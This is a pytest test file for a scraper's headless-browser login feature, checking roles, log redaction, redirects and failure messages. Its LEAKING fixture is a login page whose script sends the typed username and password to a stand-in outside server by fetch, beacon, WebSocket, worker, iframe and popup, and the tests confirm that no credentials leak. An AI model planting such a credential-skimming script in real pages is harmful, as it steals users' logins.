"""Logging in on a page, in headless Chromium, against the sandbox."""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import time
from collections import Counter
from collections.abc import Mapping
from pathlib import Path

import pytest
from aiohttp import web

from browsers import Crawled, Crawling, ended, needs_browser
from satchel.faults import Faults
from satchel.kemono.world import CONSUMER, MODERATOR, password_of
from serving import serving
from sites import Serve, Server, accounts

pytestmark = needs_browser

FORM = """
<form method="post"><input name="username"><input name="password" type="password">
<button>Log in</button></form>
"""
ASKING = """
import scrapy


class Asking(scrapy.Spider):
    name = "asking"

    async def start(self):
        for position in range(10):
            for role in ("consumer", "moderator"):
                yield self.ask(role, position)

    def ask(self, role, position):
        return scrapy.Request(
            f"{self.url}/api/v1/account/favorites?type=artist", headers={"Accept": "text/css"},
            meta={"satchel_service": "kemono", "satchel_role": role}, dont_filter=True,
            cb_kwargs={"role": role, "position": position},
        )

    def parse(self, response, role, position):
        yield {"role": role, "rows": len(response.json())}
"""


def asked(folder: Path, server: Server, given: str, *words: str, **page: object) -> Crawled:
    """A crawl that asks for twenty pages as two roles."""
    return ended(asking(folder, server.url, server.site.options.profile, given, *words, **page))


def asking(
    folder: Path,
    url: str,
    base: str,
    given: str,
    *words: str,
    variables: Mapping[str, str] | None = None,
    **page: object,
) -> Crawling:
    """The same while it runs, of a server with a profile."""
    folder.mkdir(exist_ok=True)
    (folder / "asking.py").write_text(ASKING)
    profile = {"base": base, "login": "browser", "login_page": page}
    return Crawling(
        folder, "runspider", "asking.py", "-a", f"url={url}", "-O", "out.jsonl", *words,
        SATCHEL_KEMONO_URL=url, SATCHEL_KEMONO_ACCOUNTS=given,
        SATCHEL_KEMONO_PROFILE=json.dumps(profile), **(variables or {}),
    )  # fmt: skip


@pytest.mark.parametrize("profile", ["current", "classic"])
def test_two_roles_log_in_once_each(profile: str, serve: Serve, tmp_path: Path) -> None:
    server = serve(profile=profile)
    done = asked(tmp_path / "p", server, accounts("consumer", "moderator"))
    assert (done.status, done.reason) == (0, "finished"), done.log
    rows = [json.loads(line) for line in (done.folder / "out.jsonl").read_text().splitlines()]
    assert Counter(row["role"] for row in rows) == {"consumer": 10, "moderator": 10}
    logins = [login.username for login in server.site.logins if login.succeeded]
    assert sorted(logins) == [CONSUMER, MODERATOR]
    assert done.stat("playwright/browser_count") == "1"
    assert done.stat("playwright/context_count") == "2"

    # The session alone was handed over, and neither it nor a password is anywhere in the log.
    favourites = [seen for seen in server.site.seen if "favorites" in seen.path]
    assert {(seen.account is None, seen.cookies) for seen in favourites} == {(False, 1)}
    assert password_of(CONSUMER) not in done.log
    assert not re.search(r"session=[^\[]", done.log)
    # Both have been logged out.
    assert sum(seen.path.endswith("/logout") for seen in server.site.seen) == 2


@pytest.mark.parametrize("profile", ["current", "classic"])
def test_a_password_that_is_refused_is_tried_once(
    profile: str, serve: Serve, tmp_path: Path
) -> None:
    server = serve(profile=profile)
    done = asked(tmp_path / "p", server, accounts("moderator", moderator="abracadabra"))
    assert (done.status, done.reason) == (1, "login_failed")
    assert [login.succeeded for login in server.site.logins] == [False]
    (line,) = [line for line in done.lines("ERROR") if "satchel.addon" in line]
    assert "the server refused the username or the password; check both" in line
    assert "abracadabra" not in done.log


def test_nothing_is_typed_into_the_page_of_another_server(serve: Serve, tmp_path: Path) -> None:
    other = serve(profile="classic")

    async def leads_there(request: web.Request) -> web.Response:
        raise web.HTTPFound(other.url + request.path)

    with serving(leads_there) as url:
        done = ended(asking(tmp_path / "p", url, "classic", accounts("moderator")))
    assert (done.status, done.reason) == (1, "login_failed"), done.log
    says = f"leads to another server, {other.url}/account/login, which gets no password"
    assert any(says in line for line in done.lines("ERROR")), done.log
    assert not other.sandbox.log


LEAKING = """
<script src="OTHER/script"></script>
<form method="post" action="/307/form">
<input name="username"><input name="password" type="password"><button>Log in</button></form>
<iframe name="inner"></iframe>
<script>
const form = document.forms[0];
const send = (action, target) => {
  const copy = form.cloneNode(true);
  for (const name of ["username", "password"])
    copy.elements[name].value = form.elements[name].value;
  Object.assign(copy, {action, target});
  document.body.append(copy);
  copy.submit();
  copy.remove();
};
form.addEventListener("submit", async (event) => {
  event.preventDefault();
  const body = new URLSearchParams(new FormData(form));
  const sent = {method: "POST", body, mode: "no-cors"};
  const fetches = [fetch("/307/fetched", sent), fetch("OTHER/direct", sent)];
  navigator.sendBeacon("OTHER/beacon", body);
  new WebSocket("OTHER/socket?".replace("http", "ws") + body);
  const words = `fetch("${location.origin}/307/worker", {method: "POST", body: "${body}"})`;
  new Worker(URL.createObjectURL(new Blob([words])));
  send("OTHER/frame", "inner");
  send("/307/popup", "_blank");
  await Promise.allSettled(fetches);
  form.submit();
});
</script>
"""
WAYS = {"script", "form", "fetched", "direct", "beacon", "socket", "worker", "frame", "popup"}


FORM_ALONE = LEAKING.partition("<iframe")[0]


@pytest.mark.parametrize(
    ("form", "named"), [(FORM_ALONE, False), (LEAKING, False), (LEAKING, True)]
)
def test_a_password_goes_to_no_other_server_unless_that_is_named(
    form: str, named: bool, tmp_path: Path
) -> None:
    """A page that sends it to another in all ways that there are; by itself, and by redirects."""
    came = {}

    async def other(request: web.Request) -> web.Response:
        way = request.path.strip("/")
        if way in WAYS:  # Chromium asks for an icon, too.
            came[way] = request.query_string + await request.text()
        end = time.monotonic() + 10
        while way == "form" and set(came) < WAYS and time.monotonic() < end:
            await asyncio.sleep(0.05)  # The page lives until the crawl sees what came of it.
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    async def page(request: web.Request) -> web.Response:
        if request.path.startswith("/307/"):
            to = f"{elsewhere}/{request.path.removeprefix('/307/')}"
            answer = web.Response(status=307, headers={"Location": to})
            answer.set_cookie("session", "given")
            return answer
        if request.path.startswith("/api/"):
            return web.json_response([])
        return web.Response(text=form.replace("OTHER", elsewhere), content_type="text/html")

    with serving(other) as elsewhere, serving(page) as url:
        given = accounts("consumer", "moderator") if named else accounts("moderator")
        words = {"servers": [elsewhere]} if named else {}
        done = ended(asking(tmp_path / "p", url, "classic", given, **words))
    if named:
        assert (done.status, done.reason) == (0, "finished"), done.log
        assert set(came) == WAYS
        assert all("password=" in sent for way, sent in came.items() if way != "script")
    else:
        assert (done.status, done.reason) == (1, "login_failed"), done.log
        assert came == {}
        says = f"leads to another server, {elsewhere}/"
        assert any(says in line for line in done.lines("ERROR")), done.log
    assert password_of(MODERATOR) not in done.log


def test_a_login_may_end_at_another_server_which_is_not_asked(tmp_path: Path) -> None:
    came = []

    async def other(request: web.Request) -> web.Response:
        came.append(request.path)
        return web.Response(text="welcome")

    async def page(request: web.Request) -> web.Response:
        if request.method == "POST":
            answer = web.Response(status=302, headers={"Location": f"{elsewhere}/welcome"})
            answer.set_cookie("session", "given")
            return answer
        if request.path.startswith("/api/"):
            return web.json_response([])
        return web.Response(text=FORM, content_type="text/html")

    with serving(other) as elsewhere, serving(page) as url:
        done = ended(asking(tmp_path / "p", url, "classic", accounts("consumer", "moderator")))
    assert (done.status, done.reason) == (0, "finished"), done.log
    assert came == []


def test_a_page_that_needs_another_server_says_which(tmp_path: Path) -> None:
    async def script(request: web.Request) -> web.Response:
        return web.Response(text="document.write('<form></form>')", content_type="text/javascript")

    async def page(request: web.Request) -> web.Response:
        text = f"<script src='{elsewhere}/form.js'></script>"
        return web.Response(text=text, content_type="text/html")

    with serving(script) as elsewhere, serving(page) as url:
        done = ended(
            asking(
                tmp_path / "p", url, "classic", accounts("moderator"),
                "-s", "SATCHEL_BROWSER_SECONDS=3",
            )
        )  # fmt: skip
    assert (done.status, done.reason) == (1, "login_failed"), done.log
    says = f"(nor what it wants of {elsewhere}: login_page.servers)"
    assert any(says in line for line in done.lines("ERROR")), done.log


def test_a_page_to_log_in_on_is_not_opened_by_a_proxy(tmp_path: Path) -> None:
    sent = []

    async def seen(request: web.Request) -> web.Response:
        sent.append(request.path)
        return web.Response(text=FORM, content_type="text/html")

    with serving(seen) as url:
        crawling = asking(
            tmp_path / "p", url, "classic", accounts("moderator"), variables={"http_proxy": url}
        )
        done = ended(crawling)
    assert done.status == 1, done.log
    assert any("is opened without a proxy" in line for line in done.lines("ERROR")), done.log
    assert sent == []


def test_a_login_whose_browser_is_killed_is_not_sent_again(tmp_path: Path) -> None:
    crawls: list[Crawling] = []
    sent = []

    async def login(request: web.Request) -> web.Response:
        if request.method == "POST":
            sent.append(await request.text())
            os.kill(crawls[0].browser(), signal.SIGKILL)
        return web.Response(text=FORM, content_type="text/html")

    with serving(login) as url:
        crawls.append(asking(tmp_path / "p", url, "classic", accounts("moderator")))
        done = ended(crawls[0])
    assert (done.status, done.reason) == (1, "login_failed"), done.log
    assert len(sent) == 1
    assert any("/account/login: no answer: " in line for line in done.lines("ERROR")), done.log


FAILING = {
    "a page that never finishes": (
        {"kinds": ("silence",)}, {}, "login_failed",
        r"/account/login: no answer: the page did not finish in 6 seconds",
    ),
    "a page that has changed": (
        {}, {"submit": "button.enter"}, "login_failed",
        r"the page to log in on has no submit \(button.enter\); say where .* in login_page",
    ),
    "an outcome that never shows": (
        {}, {"success": "#welcome"}, "login_failed",
        r"nothing came of it in time \(SATCHEL_BROWSER_SECONDS\)",
    ),
    "no such page": (
        {}, {"path": "/enter"}, "login_failed",
        r"/enter: the server answered 404 instead of a page to log in on",
    ),
    "a challenge": (
        {"kinds": ("challenge",)}, {}, "challenge",
        r"/account/login: the server wants to see a person \(a challenge page, status 403\)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", FAILING)
def test_what_may_go_wrong(what: str, serve: Serve, tmp_path: Path) -> None:
    faults, page, reason, says = FAILING[what]
    server = serve()
    if faults:
        server.sandbox.faults = Faults(rate=1, only="account/login", in_a_row=None, **faults)  # type: ignore[arg-type]
    done = asked(
        tmp_path / "p", server, accounts("moderator", "consumer"),
        "-s", "SATCHEL_BROWSER_SECONDS=6", "-s", "RETRY_TIMES=0", **page,
    )  # fmt: skip
    assert (done.status, done.reason) == (1, reason), done.log
    assert any(re.search(says, line) for line in done.lines("ERROR")), done.log
